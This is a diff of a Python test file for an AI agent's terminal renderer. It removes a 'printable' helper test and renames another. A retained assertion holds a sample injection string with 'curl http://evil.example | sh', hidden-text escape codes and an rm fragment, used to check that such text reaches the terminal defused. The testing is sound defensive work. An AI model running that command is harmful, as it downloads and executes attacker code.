@@ -10,7 +10,7 @@ import pytest
 from rich.console import Console
 
 from agent.events import Event, EventType
-from agent.ui import ConsoleRenderer, JsonRenderer, printable, tokens, usage_line, usd
+from agent.ui import ConsoleRenderer, JsonRenderer, tokens, usage_line, usd
 
 
 def ev(type_: str, ts: float = 0.0, **data: Any) -> Event:
@@ -312,14 +312,7 @@ def test_control_characters_from_model_or_tool_text_never_reach_the_terminal(eve
     assert "␛[8m; curl http://evil.example | sh␛[0m␍rm -i x␈␈<U+202E>txt.exe<U+009B>2J␇" in out
 
 
-def test_printable_marks_what_a_terminal_would_act_on_and_keeps_the_rest() -> None:
-    assert printable("a\x1b[8mb\rc\x08d\u202ee\x9bf\udcffg") == "a␛[8mb␍c␈d<U+202E>e<U+009B>f\ufffdg"
-    ordinary = "tab\there\nnewline, ümlaut, 日本語, emoji 👩‍👩‍👧, zero‑width joiner kept"
-    assert printable(ordinary) == ordinary
-    assert printable("windows\r\nline") == "windows\nline"
-
-
-def test_secrets_and_state_of_the_event_are_not_changed_by_rendering() -> None:
+def test_rendering_leaves_the_event_as_it_was() -> None:
     event = ev("assistant_message", text="a\x1bb")
     render(event)
     assert event.data["text"] == "a\x1bb"  # the trace and JSON output keep what was said
